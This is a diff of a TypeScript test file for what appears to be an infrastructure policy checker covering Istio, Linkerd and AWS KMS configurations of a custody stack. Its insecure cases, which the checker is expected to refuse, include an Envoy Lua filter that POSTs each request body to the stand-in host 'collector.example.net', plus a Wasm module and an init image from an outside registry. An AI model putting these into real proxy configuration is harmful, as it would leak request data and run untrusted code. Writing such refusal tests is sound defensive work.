@@ -317,10 +317,16 @@ function cloudwatchObservability(r: Resources, preview: boolean, from?: Analyzer
 /**
  * The signer's application log group under a key of the stack dedicated to it (CloudWatch Logs user guide, "Encrypt
  * log data in CloudWatch Logs using AWS KMS": logs.<region> pinned by kms:EncryptionContext:aws:logs:arn), 400-day
- * retention. In a first preview the key's ARN is unknown and the log group's kmsKeyId is recorded as coming from it.
+ * retention. In a first preview the key's ARN is unknown and the log group's kmsKeyId is recorded as coming from it
+ * (`from` "key"), from a random.RandomShuffle of key ARNs (the log group also dependsOn the key), or from nothing.
  * `direct` adds a statement of the signer's inline policy decrypting with the key directly.
  */
-function signerLogGroup(r: Resources, preview: boolean, direct = false): void {
+function signerLogGroup(
+    r: Resources,
+    preview: boolean,
+    direct = false,
+    from: "key" | "shuffle" | "nothing" = "key",
+): void {
     const keyId = "5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9";
     const arn = `arn:aws:kms:${REGION}:${PRIMARY}:key/${keyId}`;
     const key = aws(r, KEY, "signer-logs-key", {
@@ -355,19 +361,38 @@ function signerLogGroup(r: Resources, preview: boolean, direct = false): void {
         kmsKeyId: preview ? UNKNOWN : arn,
     });
     if (preview) {
-        dependsOn(group, "kmsKeyId", key);
+        if (from === "key") dependsOn(group, "kmsKeyId", key);
+        if (from === "shuffle") {
+            const pick = shuffle(r, "signer-logs-key-pick", [arn, `arn:aws:kms:${REGION}:${PRIMARY}:key/${UNKNOWN}`]);
+            const withDeps = group as AnalyzerResourceInput & {
+                dependencies?: string[];
+                propertyDependencies?: Record<string, string[]>;
+            };
+            // dependsOn: [key] keeps the key among its dependencies; the value comes from the shuffle.
+            withDeps.dependencies = [key.urn, pick.urn];
+            withDeps.propertyDependencies = { kmsKeyId: [pick.urn] };
+        }
         const alias = find(r, "aws:kms/alias:Alias", "signer-logs-key-alias");
         dependsOn(alias, "targetKeyId", key);
     }
-    if (direct) {
+    const readOwnLogs: Statement = {
+        Sid: "ReadOwnLogs",
+        Effect: "Allow",
+        Action: ["kms:Decrypt"],
+        Resource: preview ? `arn:aws:kms:${REGION}:${PRIMARY}:key/*` : arn,
+    };
+    // In a first preview the signer's own inline document is unknown (it names the tables' and shares' ARNs): the
+    // grant is a RolePolicy of its own, written with the account's key ARN pattern.
+    if (direct && preview)
+        aws(r, "aws:iam/rolePolicy:RolePolicy", "signer-read-logs", {
+            name: "custody-prod-signer-read-logs",
+            role: "custody-prod-signer",
+            policy: doc(readOwnLogs),
+        });
+    else if (direct) {
         const access = find(r, "aws:iam/rolePolicy:RolePolicy", "signer-role-access");
         const d = JSON.parse(prop(access, "policy") as string) as { Statement: Statement[] };
-        d.Statement.push({
-            Sid: "ReadOwnLogs",
-            Effect: "Allow",
-            Action: ["kms:Decrypt"],
-            Resource: preview ? "*" : arn,
-        });
+        d.Statement.push(readOwnLogs);
         setProp(access, "policy", JSON.stringify(d));
     }
 }
@@ -498,6 +523,77 @@ function keystoreGuard(r: Resources, preview: boolean, extraAllow = false): void
     }
 }
 
+/** A random.RandomShuffle of strings (its result comes out only at `up`: unknown in a first preview). */
+function shuffle(r: Resources, name: string, inputs: string[]): AnalyzerResourceInput {
+    const like = r.find(x => x.type === ROLE);
+    if (!like) throw new Error("no role in the fixture");
+    const res = {
+        urn: `${like.urn.split("::").slice(0, 2).join("::")}::random:index/randomShuffle:RandomShuffle::${name}`,
+        type: "random:index/randomShuffle:RandomShuffle",
+        name,
+        inputs: { inputs, resultCount: 1 },
+        outputs: { inputs, resultCount: 1, results: UNKNOWN },
+    } as unknown as AnalyzerResourceInput;
+    r.push(res);
+    return res;
+}
+
+/**
+ * A release-artifacts bucket whose default encryption (BucketServerSideEncryptionConfigurationV2, SSE-KMS with a bucket
+ * key) is a key of the stack dedicated to it: its policy only delegates to the account's IAM policies, and no
+ * identity of the stack is granted the key (S3 user guide, "Using server-side encryption with AWS KMS keys"). In a
+ * first preview the key's ARN is unknown and the rules are recorded as coming from it.
+ */
+function artifactsBucket(r: Resources, preview: boolean): void {
+    const keyId = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d";
+    const arn = `arn:aws:kms:${REGION}:${PRIMARY}:key/${keyId}`;
+    const key = aws(r, KEY, "artifacts-key", {
+        description: "SSE-KMS for the release-artifacts bucket",
+        keyId: preview ? UNKNOWN : keyId,
+        arn: preview ? UNKNOWN : arn,
+        customerMasterKeySpec: "SYMMETRIC_DEFAULT",
+        keyUsage: "ENCRYPT_DECRYPT",
+        enableKeyRotation: true,
+        deletionWindowInDays: 30,
+        isEnabled: true,
+        // The account's principals through S3 only (the aws/s3 managed key's policy: kms:ViaService and
+        // kms:CallerAccount).
+        policy: doc(rootDelegation(PRIMARY), {
+            Sid: "AllowThroughS3",
+            Effect: "Allow",
+            Principal: { AWS: "*" },
+            Action: ["kms:Encrypt", "kms:Decrypt", "kms:ReEncrypt*", "kms:GenerateDataKey*", "kms:DescribeKey"],
+            Resource: "*",
+            Condition: {
+                StringEquals: { "kms:ViaService": `s3.${REGION}.amazonaws.com`, "kms:CallerAccount": PRIMARY },
+            },
+        }),
+    });
+    key.options = { protect: true, retainOnDelete: true } as AnalyzerResourceInput["options"];
+    aws(r, "aws:s3/bucketV2:BucketV2", "release-artifacts", {
+        bucket: "custody-prod-release-artifacts",
+        arn: "arn:aws:s3:::custody-prod-release-artifacts",
+    });
+    const sse = aws(
+        r,
+        "aws:s3/bucketServerSideEncryptionConfigurationV2:BucketServerSideEncryptionConfigurationV2",
+        "release-artifacts-sse",
+        {
+            bucket: "custody-prod-release-artifacts",
+            rules: [
+                {
+                    bucketKeyEnabled: true,
+                    applyServerSideEncryptionByDefault: {
+                        sseAlgorithm: "aws:kms",
+                        kmsMasterKeyId: preview ? UNKNOWN : arn,
+                    },
+                },
+            ],
+        },
+    );
+    if (preview) dependsOn(sse, "rules", key);
+}
+
 type Case = {
     stack: string;
     name: string;
@@ -511,33 +607,34 @@ type Case = {
 
 const secure: Case[] = [
     {
-        // MISS: Istio's PeerAuthentication (STRICT mTLS) and AuthorizationPolicy (ALLOW from one SPIFFE principal) only
-        // make the namespace's proxies demand client certificates and drop other connections: istiod turns them into
-        // Envoy listener/RBAC filter config, no pod, RoleBinding or manifest (istio.io "Security policy examples",
-        // namespace isolation; PeerAuthentication CRD: "how traffic will be tunneled (or not) to the sidecar"). Like the
-        // Cilium/Calico policies on INERT_CUSTOM_RESOURCES, they should be inert; refused as custom resources.
+        // Was a MISS (fixed in round 28): Istio's PeerAuthentication (STRICT mTLS) and AuthorizationPolicy (ALLOW from
+        // one SPIFFE principal) only make the namespace's proxies demand client certificates and drop other
+        // connections: istiod turns them into Envoy listener/RBAC filter config, no pod, RoleBinding or manifest
+        // (istio.io "Security policy examples", namespace isolation; PeerAuthentication CRD: "how traffic will be
+        // tunneled (or not) to the sidecar"). Now on engine/customResources.ts INERT_CUSTOM_RESOURCES by kind
+        // (security.istio.io PeerAuthentication, AuthorizationPolicy, RequestAuthentication), like Cilium/Calico.
         stack: "prod",
         name: "Istio STRICT mTLS for validators (PeerAuthentication) and an AuthorizationPolicy admitting only monitoring/prometheus to the signer's metrics port",
-        skip: true,
         edit: istioPolicies,
     },
     {
-        // MISS: Linkerd's Server, MeshTLSAuthentication and AuthorizationPolicy (policy.linkerd.io) only tell the
-        // linkerd-proxy which clients (by mesh identity) may reach a port (linkerd.io "Authorization Policy"): traffic
-        // allow/deny like the Cilium/Calico kinds already listed as inert. Refused as custom resources.
+        // Was a MISS (fixed in round 28): Linkerd's Server, MeshTLSAuthentication and AuthorizationPolicy
+        // (policy.linkerd.io) only tell the linkerd-proxy which clients (by mesh identity) may reach a port (linkerd.io
+        // "Authorization Policy"): traffic allow/deny. Now inert by kind (engine/customResources.ts: Server,
+        // ServerAuthorization, MeshTLSAuthentication, NetworkAuthentication, AuthorizationPolicy, HTTPRoute).
         stack: "prod",
         name: "Linkerd authorization for the signer's metrics port: a Server, a MeshTLSAuthentication of monitoring/prometheus and an AuthorizationPolicy",
-        skip: true,
         edit: linkerdPolicies,
     },
     {
-        // MISS: `linkerd.io/inject: enabled` is Linkerd's counterpart of `sidecar.istio.io/inject: "true"`, which the
-        // pod-annotation allowlist accepts: the proxy-injector adds linkerd-init (iptables; absent with linkerd-cni)
+        // Was a MISS (fixed in round 28): `linkerd.io/inject: enabled` is Linkerd's counterpart of
+        // `sidecar.istio.io/inject: "true"`: the proxy-injector adds linkerd-init (iptables; absent with linkerd-cni)
         // and linkerd-proxy, the mesh's own image, non-root (linkerd.io "Automatic Proxy Injection", "CNI Plugin"), and
-        // `config.linkerd.io/proxy-{cpu,memory}-request` only size it. Refused as "not known to be inert".
+        // `config.linkerd.io/proxy-{cpu,memory}-request` only size it (linkerd.io reference "Proxy Configuration").
+        // Now on engine/podSpec.ts's pod-annotation allowlist (inject enabled or disabled; the proxy's CPU and memory
+        // requests and limits); every other config.linkerd.io key stays refused.
         stack: "prod",
         name: "a restricted Deployment in apps meshed by Linkerd (linkerd.io/inject: enabled, proxy CPU/memory requests)",
-        skip: true,
         edit: r => {
             namespace(r, "apps");
             serviceAccount(r, "apps", "reports-api");
@@ -547,6 +644,110 @@ const secure: Case[] = [
                 "config.linkerd.io/proxy-memory-request": "64Mi",
             });
         },
+    },
+    // ---- Round 28 neighbours of the fixed MISSes (secure: other spellings of the same shapes).
+    {
+        // DECIDED: an AuthorizationPolicy with action CUSTOM names an external authorizer by provider name only; the
+        // authorizer (address, headers and body sent) is an extension provider of the mesh config, outside the stack,
+        // and the CUSTOM check runs first and only denies (istio.io "Authorization Policy", "External Authorization").
+        // It starts no pod and lends no identity, so it is inert like ALLOW and DENY. A RequestAuthentication only
+        // validates JWTs at the proxies (istiod fetches the jwksUri's public keys; IST0175 hardening is the cluster's).
+        stack: "prod",
+        name: "Istio v1beta1 spellings: a RequestAuthentication (JWTs of the corporate IdP) and a CUSTOM AuthorizationPolicy delegating /admin to the mesh's oauth2-proxy authorizer",
+        edit: r => {
+            k8s(r, "kubernetes:security.istio.io/v1beta1:RequestAuthentication", "validators-corporate-jwt", {
+                apiVersion: "security.istio.io/v1beta1",
+                kind: "RequestAuthentication",
+                metadata: { name: "corporate-jwt", namespace: "validators" },
+                spec: {
+                    selector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
+                    jwtRules: [
+                        {
+                            issuer: "https://login.example.com/",
+                            jwksUri: "https://login.example.com/.well-known/jwks.json",
+                            audiences: ["custody-admin"],
+                        },
+                    ],
+                },
+            });
+            k8s(r, "kubernetes:security.istio.io/v1beta1:AuthorizationPolicy", "validators-admin-ext-authz", {
+                apiVersion: "security.istio.io/v1beta1",
+                kind: "AuthorizationPolicy",
+                metadata: { name: "admin-ext-authz", namespace: "validators" },
+                spec: {
+                    selector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
+                    action: "CUSTOM",
+                    provider: { name: "oauth2-proxy" },
+                    rules: [{ to: [{ operation: { paths: ["/admin/*"] } }] }],
+                },
+            });
+            k8s(r, "kubernetes:security.istio.io/v1beta1:PeerAuthentication", "istio-system-mesh-strict", {
+                apiVersion: "security.istio.io/v1beta1",
+                kind: "PeerAuthentication",
+                metadata: { name: "default", namespace: "istio-system" },
+                spec: { mtls: { mode: "STRICT" } },
+            });
+        },
+    },
+    {
+        stack: "prod",
+        name: "Linkerd's older and route spellings: a ServerAuthorization (v1beta1), a NetworkAuthentication of the cluster's pod CIDR and an HTTPRoute for /metrics",
+        edit: r => {
+            k8s(r, "kubernetes:policy.linkerd.io/v1beta1:ServerAuthorization", "validators-signer-metrics-saz", {
+                apiVersion: "policy.linkerd.io/v1beta1",
+                kind: "ServerAuthorization",
+                metadata: { name: "signer-metrics-prometheus", namespace: "validators" },
+                spec: {
+                    server: { name: "signer-metrics" },
+                    client: { meshTLS: { serviceAccounts: [{ name: "prometheus", namespace: "monitoring" }] } },
+                },
+            });
+            k8s(r, "kubernetes:policy.linkerd.io/v1alpha1:NetworkAuthentication", "validators-pod-network", {
+                apiVersion: "policy.linkerd.io/v1alpha1",
+                kind: "NetworkAuthentication",
+                metadata: { name: "pod-network", namespace: "validators" },
+                spec: { networks: [{ cidr: "10.0.0.0/16" }] },
+            });
+            k8s(r, "kubernetes:policy.linkerd.io/v1beta3:HTTPRoute", "validators-signer-metrics-route", {
+                apiVersion: "policy.linkerd.io/v1beta3",
+                kind: "HTTPRoute",
+                metadata: { name: "signer-metrics", namespace: "validators" },
+                spec: {
+                    parentRefs: [{ group: "policy.linkerd.io", kind: "Server", name: "signer-metrics" }],
+                    rules: [{ matches: [{ path: { type: "Exact", value: "/metrics" }, method: "GET" }] }],
+                },
+            });
+        },
+    },
+    {
+        stack: "prod",
+        name: "restricted Deployments in apps: one meshed by Linkerd with proxy CPU/memory limits, one opted out (linkerd.io/inject: disabled)",
+        edit: r => {
+            namespace(r, "apps");
+            serviceAccount(r, "apps", "reports-api");
+            serviceAccount(r, "apps", "reports-batch");
+            restrictedDeployment(r, "apps", "reports-api", "reports-api", {
+                "linkerd.io/inject": "enabled",
+                "config.linkerd.io/proxy-cpu-limit": "1",
+                "config.linkerd.io/proxy-memory-limit": "256Mi",
+                "config.linkerd.io/proxy-cpu-request": "100m",
+                "config.linkerd.io/proxy-memory-request": "128Mi",
+            });
+            restrictedDeployment(r, "apps", "reports-batch", "reports-batch", { "linkerd.io/inject": "disabled" });
+        },
+    },
+    {
+        // The same dedicated-key resolution through a use whose key sits inside a list input (rules[]...kmsMasterKeyId:
+        // the engine records the dependency under `rules`).
+        stack: "prod",
+        preview: true,
+        name: "a release-artifacts bucket's SSE-KMS default encryption under a key of the stack usable only through S3, in a first preview (the rules' kmsMasterKeyId unknown, from the key)",
+        edit: r => artifactsBucket(r, true),
+    },
+    {
+        stack: "prod",
+        name: "the same release-artifacts bucket under its S3-only key at `up`",
+        edit: r => artifactsBucket(r, false),
     },
     {
         stack: "prod",
@@ -598,16 +799,15 @@ const secure: Case[] = [
         edit: r => signerLogGroup(r, false),
     },
     {
-        // MISS: the log key is dedicated at `up` (the case above passes), but in a first preview its arn/keyId are
-        // unknown and the log group's kmsKeyId is recorded as coming from it (propertyDependencies): the pack does not
-        // resolve the dependency, so the logs service's grant (pinned by kms:EncryptionContext:aws:logs:arn, CloudWatch
-        // Logs user guide "Encrypt log data using AWS KMS") makes the key custody and "no workload has this principal".
-        // Still refused with the log group's arn and kmsKeyId known: only the key's own unknown ARN matters. Roles and
-        // instance profiles in a first preview are already resolved through dependencies (round 26).
+        // Was a MISS (fixed in round 28): the log key is dedicated at `up` (the case above passes), but in a first
+        // preview its arn/keyId are unknown and the log group's kmsKeyId is recorded as coming from it
+        // (propertyDependencies): the pack did not resolve the dependency, so the logs service's grant (pinned by
+        // kms:EncryptionContext:aws:logs:arn, CloudWatch Logs user guide "Encrypt log data using AWS KMS") made the key
+        // custody and "no workload has this principal". engine/judge.ts keyNamedBy now resolves an unknown reference of
+        // a DEDICATING_KEY_PROPS use through model/resources.ts linkedByDependency, as roles are (round 26).
         stack: "prod",
         preview: true,
         name: "the same dedicated log key and log group in a first preview (the key's ARN, the alias target and the log group's kmsKeyId unknown)",
-        skip: true,
         edit: r => signerLogGroup(r, true),
     },
     {
@@ -666,6 +866,109 @@ const insecure: Case[] = [
         name: "the keystore's guard resource policy in a first preview (document written with the table's literal ARN) also allowing account 999999999999's root GetItem and Query",
         edit: r => keystoreGuard(r, true, true),
         refused: /keystore|999999999999|unverifiable|unknown/,
+    },
+    // ---- Round 28 neighbours of the fixed MISSes (insecure: what stays refused beside them).
+    {
+        stack: "prod",
+        name: "an Istio EnvoyFilter inserting a Lua filter into the signer's inbound HTTP chain (networking.istio.io: code the proxy runs)",
+        edit: r =>
+            k8s(r, "kubernetes:networking.istio.io/v1alpha3:EnvoyFilter", "validators-signer-lua", {
+                apiVersion: "networking.istio.io/v1alpha3",
+                kind: "EnvoyFilter",
+                metadata: { name: "signer-lua", namespace: "validators" },
+                spec: {
+                    workloadSelector: { labels: { "app.kubernetes.io/name": "containment-chamber" } },
+                    configPatches: [
+                        {
+                            applyTo: "HTTP_FILTER",
+                            match: {
+                                context: "SIDECAR_INBOUND",
+                                listener: {
+                                    filterChain: {
+                                        filter: {
+                                            name: "envoy.filters.network.http_connection_manager",
+                                            subFilter: { name: "envoy.filters.http.router" },
+                                        },
+                                    },
+                                },
+                            },
+                            patch: {
+                                operation: "INSERT_BEFORE",
+                                value: {
+                                    name: "envoy.lua",
+                                    typed_config: {
+                                        "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua",
+                                        inlineCode:
+                                            'function envoy_on_request(h) h:httpCall("exfil", {[":method"]="POST", [":path"]="/", [":authority"]="collector.example.net"}, h:body():getBytes(0, h:body():length()), 1000) end',
+                                    },
+                                },
+                            },
+                        },
+                    ],
+                },
+            }),
+        refused: /networking\.istio\.io\/v1alpha3:EnvoyFilter validators-signer-lua is a custom resource/,
+    },
+    {
+        stack: "prod",
+        name: "an Istio WasmPlugin pulling a module from an outside registry into the signer's proxy (extensions.istio.io)",
+        edit: r =>
+            k8s(r, "kubernetes:extensions.istio.io/v1alpha1:WasmPlugin", "validators-signer-wasm", {
+                apiVersion: "extensions.istio.io/v1alpha1",
+                kind: "WasmPlugin",
+                metadata: { name: "signer-wasm", namespace: "validators" },
+                spec: {
+                    selector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
+                    url: "oci://registry.example.net/filters/headers:1.0",
+                    phase: "AUTHN",
+                },
+            }),
+        refused: /extensions\.istio\.io\/v1alpha1:WasmPlugin validators-signer-wasm is a custom resource/,
+    },
+    {
+        stack: "prod",
+        name: "a Deployment in apps meshed by Linkerd with its init container's image overridden (config.linkerd.io/init-image)",
+        edit: r => {
+            namespace(r, "apps");
+            serviceAccount(r, "apps", "reports-api");
+            restrictedDeployment(r, "apps", "reports-api", "reports-api", {
+                "linkerd.io/inject": "enabled",
+                "config.linkerd.io/proxy-cpu-request": "50m",
+                "config.linkerd.io/init-image": "registry.example.net/proxy-init",
+            });
+        },
+        refused: /Deployment apps\/reports-api: annotation config\.linkerd\.io\/init-image is not known to be inert/,
+    },
+    {
+        stack: "prod",
+        name: "a Deployment in apps with Linkerd in ingress mode (linkerd.io/inject: ingress)",
+        edit: r => {
+            namespace(r, "apps");
+            serviceAccount(r, "apps", "reports-api");
+            restrictedDeployment(r, "apps", "reports-api", "reports-api", { "linkerd.io/inject": "ingress" });
+        },
+        refused: /Deployment apps\/reports-api: annotation linkerd\.io\/inject: "ingress" \(enabled or disabled/,
+    },
+    {
+        stack: "prod",
+        preview: true,
+        name: "the dedicated log key in a first preview, its log group's unknown kmsKeyId a random.RandomShuffle's pick of key ARNs (the log group also dependsOn the key)",
+        edit: r => signerLogGroup(r, true, false, "shuffle"),
+        refused: /service logs\.eu-west-1\.amazonaws\.com .*key alias\/custody-infra\/prod\/signer-logs/,
+    },
+    {
+        stack: "prod",
+        preview: true,
+        name: "the dedicated log key in a first preview, its log group's unknown kmsKeyId depending on nothing of the stack",
+        edit: r => signerLogGroup(r, true, false, "nothing"),
+        refused: /service logs\.eu-west-1\.amazonaws\.com .*key alias\/custody-infra\/prod\/signer-logs/,
+    },
+    {
+        stack: "prod",
+        preview: true,
+        name: "the dedicated log key in a first preview also decrypted directly by the signer's inline policy (Resource *, no kms:ViaService)",
+        edit: r => signerLogGroup(r, true, true),
+        refused: /custody-prod-signer.*signer-logs/,
     },
 ];
 
